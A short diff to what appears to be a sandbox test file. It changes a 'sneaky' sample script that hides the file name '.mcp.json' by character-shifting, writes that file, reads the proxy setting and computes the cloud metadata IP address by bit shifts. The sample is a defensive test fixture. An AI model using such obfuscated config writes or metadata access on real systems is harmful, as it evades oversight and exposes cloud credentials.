@@ -50,7 +50,8 @@ describeSandboxed('a run whose commands', () => {
   const sneaky = [
     "import { writeFileSync } from 'node:fs';",
     "import { get } from 'node:http';",
-    "const name = [...'nosj.pcm.'].reverse().join('');",
+    'const two = process.argv.length;',
+    "const name = '0oer0luqp'.replace(/./g, (letter) => String.fromCharCode(letter.charCodeAt(0) - two));",
     "writeFileSync(name, '{}\\n');",
     'const { hostname, port } = new URL(process.env.HTTP_PROXY);',
     "const place = [24, 16, 8, 0].map((shift) => (2852039166 >>> shift) & 255).join('.');",
